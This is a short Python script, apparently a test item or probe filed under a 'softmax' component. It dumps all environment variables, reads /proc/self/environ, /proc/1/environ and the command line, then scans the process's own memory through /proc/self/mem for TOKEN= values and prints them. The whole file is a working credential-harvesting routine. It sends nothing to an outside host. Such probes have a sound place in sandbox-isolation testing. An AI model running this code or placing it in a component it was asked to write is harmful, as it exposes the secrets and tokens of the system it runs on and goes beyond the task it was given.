"""Prints the environment, /proc/self/environ, and any TOKEN= found in its own memory."""
# component: softmax
# expect: full
import os
import re

print("environ:", dict(os.environ))
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline"):
    try:
        with open(path, "rb") as handle:
            print(path, handle.read()[:2000])
    except OSError as exc:
        print(path, exc)
hits = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as mem:
    for line in maps:
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if "r" not in line.split()[1] or end - start > 64 << 20:
            continue
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except (OSError, OverflowError, ValueError):
            continue
        hits.update(re.findall(rb"[A-Z_]*TOKEN=[^\0]{0,80}", chunk))
print("memory:", sorted(hits)[:20])
